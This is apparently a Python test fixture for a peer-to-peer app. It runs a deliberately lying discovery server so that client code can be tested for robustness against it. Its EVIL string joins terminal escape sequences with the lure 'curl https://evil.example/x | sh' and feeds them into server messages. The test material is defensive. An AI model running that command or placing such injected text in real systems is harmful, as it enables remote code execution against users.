"""Discovery services that lie, each in a way of its own; `python -m tests.sockets.lying PORT LIE` runs one."""

from __future__ import annotations

import asyncio
import os
import sys
from collections.abc import Callable
from typing import Final, TypeAlias

from sandpiper.common import rendezvous
from sandpiper.common.errors import Refusal
from sandpiper.common.limits import (
    GROUPS_FOUND,
    LEASES_PER_GROUP,
    MAILBOXES_FOUND,
    NAMEPLATE_LEAST,
    NAMEPLATE_MOST,
    SENIORITY_BYTES,
)
from sandpiper.common.p2p import admission
from sandpiper.common.p2p.admission import AnyLetter
from sandpiper.common.rendezvous import BrokerAt, PeerCard, Reply, Request
from sandpiper.common.tickets import Requester
from sandpiper.discovery.service import DiscoveryConfig, DiscoveryService
from sandpiper.peer.p2p.admission.handshake import Attempt, shared_secret

EVIL: Final = "\x1b[2J\x1b]0;owned\x07 get the new client: curl https://evil.example/x | sh " + "A" * 900
MOST: Final = (1 << 63) - 1
ROOM: Final = b"r" * 16


class LyingService(DiscoveryService):
    """A service that answers as `lie` says, and where that says nothing, as it should. `asked` counts the requests."""

    def __init__(self, config: DiscoveryConfig, lie: Lie) -> None:
        super().__init__(config)
        self._lie = lie
        self.asked = 0
        self.attempts: dict[bytes, Attempt] = {}
        self.guessed = 0

    def _answer(self, caller: Requester, frame: bytes, now: float) -> Reply:
        self.asked += 1
        try:
            said = self._lie(self, caller, rendezvous.decode_request(frame))
        except Refusal:
            said = None
        return said if said is not None else super()._answer(caller, frame, now)

    def push(self, caller: Requester, event: rendezvous.Event) -> None:
        """Sends an event that nothing has caused."""
        self._router.send(caller.route, rendezvous.encode(event))


Lie: TypeAlias = Callable[[LyingService, Requester, Request], "Reply | None"]
Says: TypeAlias = "Callable[[LyingService, AnyLetter], AnyLetter | None]"


def false_rooms(says: Says) -> Lie:
    """Shows a joiner mailboxes of nobody's, as many as fit, in which somebody answers as `says` says."""

    def lie(service: LyingService, caller: Requester, request: Request) -> Reply | None:
        match request:
            case rendezvous.Lookup():
                groups = [[os.urandom(16) for _ in range(MAILBOXES_FOUND)] for _ in range(GROUPS_FOUND)]
                return rendezvous.Found(r=request.r, groups=groups)
            case rendezvous.Post() if service.core.mailboxes.at(request.mailbox) is None:
                said = says(service, admission.decode_letter(request.body))
                if said is not None:
                    service.push(caller, rendezvous.Letter(sender=request.mailbox, body=admission.encode(said)))
                return rendezvous.Done(r=request.r)
        return None

    return lie


def guesses(service: LyingService, letter: AnyLetter) -> AnyLetter | None:
    """Tests a guess at the code, as a member would let somebody in."""
    match letter:
        case admission.Knock():
            key = os.urandom(32)
            service.attempts[letter.attempt] = Attempt(
                joiner=False, secret=shared_secret("a-guess", None), nameplate=NAMEPLATE_MOST, generation=1, room=ROOM,
                attempt=letter.attempt, joiner_key=letter.key, sponsor_key=key, entropy=os.urandom,
            )  # fmt: skip
            return admission.Answer(letter.attempt, 1, key, 1, ROOM)
        case admission.Half():
            attempt = service.attempts[letter.attempt]
            attempt.finish(letter.message)
            return admission.Half(letter.attempt, attempt.message)
        case admission.Proof():
            service.guessed += 1
            return admission.Denied(letter.attempt, EVIL)
    return None


def spoils_the_greeting(service: LyingService, caller: Requester, request: Request) -> Reply | None:
    """Says that it sees everybody where they cannot be, and names brokers where there are none."""
    if not isinstance(request, rendezvous.Greet):
        return None
    greeted = service.core.answer(caller, rendezvous.encode(request), service._loop.time())
    assert isinstance(greeted, rendezvous.Greeted)
    greeted.observed = "10.11.12.13"
    greeted.brokers = [
        BrokerAt(each) for each in ("10.0.0.1:5000", "mail.example:25", "\x1b[2J", "127.0.0.1:1", "[::]:9")
    ]
    greeted.settling_ms = MOST
    return greeted


def refuses(code: str) -> Lie:
    """Refuses everything but greetings."""

    def lie(service: LyingService, caller: Requester, request: Request) -> Reply | None:
        if isinstance(request, rendezvous.Greet):
            return None
        return rendezvous.Refused(r=request.r, code=code, text=EVIL, retry_ms=MOST)

    return lie


def grants_nonsense(service: LyingService, caller: Requester, request: Request) -> Reply | None:
    """Leases what was not asked for, with cards of nobody, and steps of other groups."""
    if not isinstance(request, rendezvous.Claim):
        return None
    cards = [PeerCard(os.urandom(16), os.urandom(200), "203.0.113.1") for _ in range(LEASES_PER_GROUP)]
    for version in range(2, 200, 2):
        service.push(
            caller,
            rendezvous.Changed(
                nameplate=request.nameplate, group=request.group, version=version, cards=cards[:20], gone=[b"g" * 16]
            ),
        )
    return rendezvous.Leased(
        r=request.r,
        nameplate=request.nameplate or NAMEPLATE_LEAST,
        expires_at=MOST,
        version=1,
        peers=cards,
        seniority=bytes(SENIORITY_BYTES),
    )


def hangs_up(service: LyingService, caller: Requester, request: Request) -> Reply | None:
    """Says goodbye to whoever asks for something."""
    if not isinstance(request, rendezvous.Greet):
        service.push(caller, rendezvous.Closing(text=EVIL))
    return None


def writes_letters(service: LyingService, caller: Requester, request: Request) -> Reply | None:
    """Passes on a hundred letters of nobody for each request."""
    for _ in range(100):
        knock = admission.Knock(os.urandom(16), 1, os.urandom(32))
        service.push(caller, rendezvous.Letter(sender=os.urandom(16), body=admission.encode(knock)))
    return None


LIES: Final[dict[str, Lie]] = {
    "full rooms": false_rooms(lambda service, letter: admission.Busy(letter.attempt, 0, EVIL)),
    "busy rooms": false_rooms(lambda service, letter: admission.Busy(letter.attempt, MOST)),
    "denying rooms": false_rooms(lambda service, letter: admission.Denied(letter.attempt, EVIL, "version")),
    "silent rooms": false_rooms(lambda service, letter: None),
    "guessing rooms": false_rooms(guesses),
    "false addresses": spoils_the_greeting,
    "everything taken": refuses("taken"),
    "no room": refuses("no_room"),
    "too fast": refuses("rate"),
    "not yet": refuses("not_yet"),
    "a code of tomorrow": refuses("tomorrow"),
    "nonsense leased": grants_nonsense,
    "hanging up": hangs_up,
    "letters": writes_letters,
}


async def _serve(port: int, lie: str) -> None:
    service = LyingService(DiscoveryConfig("127.0.0.1", port, settle_s=0.0), LIES[lie])
    await service.open()
    print(service.ready().door, flush=True)  # noqa: T201
    await asyncio.Event().wait()


if __name__ == "__main__":
    asyncio.run(_serve(int(sys.argv[1]), sys.argv[2]))
